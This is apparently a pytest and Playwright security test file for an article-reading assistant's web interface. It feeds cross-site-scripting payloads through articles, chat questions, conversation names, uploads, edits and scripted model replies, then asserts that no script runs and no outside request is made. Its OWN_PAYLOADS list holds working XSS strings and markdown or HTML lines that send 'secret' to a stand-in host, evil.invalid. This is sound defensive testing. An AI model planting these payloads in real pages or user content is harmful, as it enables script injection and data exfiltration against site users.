"""Text that would like to be code stays text, wherever an article can put it.

A part of what is known to be hostile is tried; with EVERY_FAULT=1, all of it.
"""

import contextlib
import json
import os
import re
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, closing
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import TimeoutError, expect

from assistant import Assistant
from assistant.conversations import ConversationStore, open_conversations
from assistant.conversations.records import Asked
from assistant.settings import LanguageModelSettings, Settings, StoreSettings
from index.types import Article
from tests.browser.browsing import Browsing
from tests.browser.visitor import DESK, Visitor, renewed

EVERY = bool(os.environ.get("EVERY_FAULT"))

OWN_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    '"><iframe src="javascript:alert(4)">',
    "![x](http://evil.invalid/?q=secret)",
    "![x](/gradio_api/file=http://evil.invalid/?q=secret)",
    "[click](javascript:alert(5))",
    "<a href=javascript:alert(6)>x</a>",
    "<form action=http://evil.invalid><input name=q>",
    '<div style="background:url(http://evil.invalid/a)">',
    "<video autoplay src=http://evil.invalid/v></video>",
    "${alert(7)} {{constructor.constructor('alert(8)')()}}",
    "</textarea></title></script><script>alert(9)</script>",
    "<style>@import 'http://evil.invalid/s.css';</style>",
    '<math><mi//xlink:href="data:x,<script>alert(10)</script>">',
    "$$\\href{javascript:alert(11)}{x}$$ `code` **bold** | a | b |",
]
OF_SO_MANY_ONE = 1 if EVERY else 4
"""Of the shared payloads, which stand there by their kinds."""

PAYLOADS_AN_ARTICLE = 8
PAYLOADS_A_QUESTION = 4
EDITED = 12
LISTED = 400 if EVERY else 120
"""Conversations; the list shows five hundred."""

UPLOADED = 40
WRITTEN = 12
"""Answers over which the payloads are spread; each is shown anew with each of its sentences."""
ALLOWED_ELEMENTS = {
    *("A", "BLOCKQUOTE", "BUTTON", "DETAILS", "DIV", "H2", "H3", "INPUT", "LABEL", "LI", "MARK"),
    *("P", "SPAN", "STRONG", "SUMMARY", "UL"),
}
FIND_ELEMENTS = """selector => [...new Set([...document.querySelectorAll(selector)]
    .flatMap(one => [...one.querySelectorAll('*')]).map(one => one.tagName))]"""
NAMES_ARE = """names => JSON.stringify(names) === JSON.stringify(
    [...document.querySelectorAll('#conversation-list .name')].map(one => one.textContent))"""
SHOWN = (".question", ".answer", ".note", "#source-content", "#listing", "#uploads", "#scope")


@pytest.fixture(scope="module")
def payloads(request: pytest.FixtureRequest) -> list[str]:
    """Our own, and some of the shared lists where they are there."""
    folder = Path(__file__).parents[3] / "shared" / "data" / "security"
    if not folder.is_dir():
        return OWN_PAYLOADS
    lines = (folder / "xss.txt").read_text(encoding="utf-8").splitlines()
    naughty = json.loads((folder / "blns.json").read_text(encoding="utf-8"))
    shared = [one for one in [*lines, *naughty] if one.strip()]
    return OWN_PAYLOADS + shared[::OF_SO_MANY_ONE]


def hostile_articles(payloads: list[str]) -> Iterator[Article]:
    for start in range(0, len(payloads), PAYLOADS_AN_ARTICLE):
        part = payloads[start : start + PAYLOADS_AN_ARTICLE]
        text = "\n\n".join(
            f"Payload {start + n} says {one} and ends." for n, one in enumerate(part)
        )
        title, source, url, author, name = (part[n % len(part)] for n in range(5))
        yield Article(f"{start} {name}", title, text, source, url, None, author)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the hostile articles and the conversations about them are kept."""
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture(scope="module")
def hostile(
    served: Callable[[Assistant], AbstractContextManager[str]],
    chromium: str,
    payloads: list[str],
    folder: Path,
) -> Iterator[str]:
    """The page of an assistant that has read nothing but hostile articles."""
    with Assistant.open(folder) as assistant:
        report = assistant.ingest_articles(hostile_articles(payloads))
        assert report.failures == ()
        with served(assistant) as address:
            yield address


@pytest.fixture(scope="module")
def hostile_window(browsing: Browsing, hostile: str) -> Iterator[Visitor]:
    """A window before the hostile articles, for one test after another."""
    with browsing.context(hostile, viewport=DESK, reduced_motion="reduce") as context:
        visitor = Visitor(context.new_page(), hostile)
        visitor.open()
        nothing_happened(visitor)
        yield visitor


@pytest.fixture
def target(hostile_window: Visitor, request: pytest.FixtureRequest) -> Iterator[Visitor]:
    """A visitor with an empty chat, to whom nothing may have happened at the end."""
    visitor = renewed(hostile_window, request)
    yield visitor
    nothing_happened(visitor)


def nothing_happened(visitor: Any) -> None:
    """No script ran, nothing was asked of elsewhere, and nothing but our elements is shown."""
    own = visitor.address.split("/")[2]
    assert visitor.dialogs == []
    assert visitor.hosts == {own}
    assert [url for url in visitor.requests if "file=" in url or "proxy=" in url] == []
    # A script that the policy had to stop would have been markup already.
    assert visitor.problems == []
    for selector in SHOWN:
        assert set(visitor.page.evaluate(FIND_ELEMENTS, selector)) <= ALLOWED_ELEMENTS


def test_articles_listed_and_opened(target: Any) -> None:
    page = target.page
    rows = page.locator("#listing .open")
    titles = rows.locator(".title").all_text_contents()
    for number, title in enumerate(titles):
        target.open_source(rows.nth(number))
        assert page.locator("#source-content h2").text_content() == title
    assert titles


def test_payloads_asked_and_cited(target: Any) -> None:
    starts = range(0, len(OWN_PAYLOADS), PAYLOADS_A_QUESTION)
    for start in starts:
        said = " or ".join(OWN_PAYLOADS[start : start + PAYLOADS_A_QUESTION])
        reply = target.ask(f"What does payload {start} say about {said}?")
        for marker in reply.locator("a.cite:visible").all()[:1]:
            target.open_source(marker)
    assert target.page.locator("#chat .question").count() == len(starts)


def test_names_of_conversations_and_cards(target: Any, folder: Path, payloads: list[str]) -> None:
    page = target.page
    with closing(open_conversations(folder)) as kept:
        begun = [kept.begin(Asked(one)).conversation_id for one in payloads[:LISTED]]
        reply = target.ask("What does payload 1 say?")
        all_names_are_listed(page, kept)
        for conversation, payload in zip(begun, payloads[LISTED:], strict=False):
            kept.rename(conversation, payload)
        page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
        all_names_are_listed(page, kept)
        for conversation in begun:
            kept.delete(conversation)
    for marker in reply.locator(".answer .sentence a.cite:visible").all():
        marker.hover()
        page.locator("#card blockquote").wait_for()
    rename_and_delete(page, "<img src=x onerror=alert(1)>")
    assert set(page.evaluate(FIND_ELEMENTS, "#card")) <= ALLOWED_ELEMENTS


def all_names_are_listed(page: Any, kept: ConversationStore) -> None:
    """The list names every conversation as it is called, and is made of our elements only."""
    names = [one.name for one in kept.conversations()]
    listed = page.locator("#conversation-list .name")
    # The page may read the list while names are still being changed, and reads it again.
    with contextlib.suppress(TimeoutError):
        page.wait_for_function(NAMES_ARE, arg=names)
    assert listed.all_text_contents() == names
    assert set(page.evaluate(FIND_ELEMENTS, "#side")) <= ALLOWED_ELEMENTS


def rename_and_delete(page: Any, name: str) -> None:
    """Rename the newest conversation as a reader does, and delete it."""
    more = page.locator("#conversation-list .more").first
    more.click()
    page.get_by_role("menuitem", name="Rename").click()
    page.keyboard.type(name)
    page.keyboard.press("Enter")
    expect(page.locator("#conversation-list .name").first).to_have_text(name)
    more.click()
    page.get_by_role("menuitem", name="Delete").click()
    expect(page.locator("#toast")).to_contain_text(name)


def test_names_of_uploaded_files(
    visit: Callable[..., Any], hostile: str, payloads: list[str]
) -> None:
    """Some cannot be read, the others become articles of that name, in list and filters."""
    visitor = visit(hostile)
    page = visitor.page
    before = page.locator("#sources input").count()
    names = [one.replace("/", "_").replace("\0", "")[:200] for one in payloads[:UPLOADED]]
    files = [
        {"name": f"{name}.txt", "mimeType": "text/plain", "buffer": f"File {at} is here.".encode()}
        for at, name in enumerate(names)
    ]
    files.append({"name": f"{OWN_PAYLOADS[1]}.bin", "mimeType": "x/y", "buffer": b"\0\1\2"})
    page.set_input_files("#files", files)
    visitor.added()
    expect(page.locator("#outcome")).to_have_text(re.compile("1 failed$"))
    expect(page.locator("#uploads li")).to_have_count(len(files))
    expect(page.locator("#sources input")).not_to_have_count(before)
    page.locator("#limits summary").click()
    for box in page.locator("#sources input").all()[:UPLOADED]:
        box.check()
    expect(page.locator("#scope .chip")).to_have_count(UPLOADED)
    nothing_happened(visitor)


def test_titles_and_sources_that_are_edited(target: Any, payloads: list[str]) -> None:
    page = target.page
    # By title a row would move with its name, perhaps below what is listed at once.
    with page.expect_response("**/citeline/articles?*order=added*"):
        page.locator("#order").select_option("added")
    every = page.locator("#listing li").evaluate_all("all => all.map(one => one.dataset.article)")
    ids = [one for one in every if "'" not in one and "\\" not in one][:EDITED]
    titles = [" ".join(one.split()) for one in payloads[:EDITED]]
    for article, payload in zip(ids, payloads, strict=False):
        changed = page.request.patch(
            f"{target.address}api/articles",
            params={"article": article},
            data={"title": payload, "source": payload},
        )
        assert changed.ok
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    rows = [page.locator(f"#listing li[data-article='{one}']") for one in ids]
    for row, title in zip(rows, titles, strict=True):
        expect(row.locator(".title")).to_have_text(title)
    row, title = rows[-1], titles[-1]
    target.act_on(row, "Edit")
    expect(page.locator("#editing [name=title]")).to_have_value(title)
    page.keyboard.press("Escape")
    target.act_on(row, "Remove")
    expect(page.locator("#toast")).to_contain_text(title)
    page.locator("#toast").get_by_role("button", name="Undo").click()
    expect(row).to_have_count(1)


@pytest.fixture
def written(
    served: Callable[[Assistant], AbstractContextManager[str]],
    copy_of_sample: Callable[[], Path],
    payloads: list[str],
    tmp_path: Path,
    visit: Callable[..., Any],
) -> Iterator[Any]:
    """A visitor to whom a language model says what would like to be code, every word cited."""
    script = tmp_path / "script.jsonl"
    size = len(payloads) // WRITTEN + 1
    parts = [payloads[start : start + size] for start in range(0, len(payloads), size)]
    replies = ["\n".join(f"The bridge said {one} [1]." for one in part) for part in parts]
    script.write_text("".join(json.dumps(one) + "\n" for one in replies), "utf-8")
    model = LanguageModelSettings(
        provider="scripted", model=OWN_PAYLOADS[1], script=script, context_window=400_000
    )
    settings = Settings(store=StoreSettings(data_dir=copy_of_sample()), llm=model)
    with Assistant.open(settings=settings) as assistant, served(assistant) as address:
        visitor = visit(address)
        # Checking hundreds of such sentences keeps the process of the tests busy for seconds.
        alive = visitor.page.request.get(f"{address}citeline/alive").json()
        visitor.page.route("**/citeline/alive", lambda route: route.fulfill(json=alive))
        yield visitor, len(parts)
        nothing_happened(visitor)
        visitor.page.close()  # else the server waits for it


def test_what_a_language_model_writes(written: Any) -> None:
    visitor, count = written
    page = visitor.page
    for number in range(count):
        page.locator("#new-button").click()
        page.locator("#chat .example").first.wait_for()
        reply = visitor.ask(f"Why was the Marram Bridge closed on day {number}?")
        expect(reply.locator(".written").first).to_contain_text("The bridge said")
        marker = reply.locator("a.cite").first
        if marker.count():
            marker.hover()
    expect(page.locator("#writer")).to_contain_text(OWN_PAYLOADS[1])
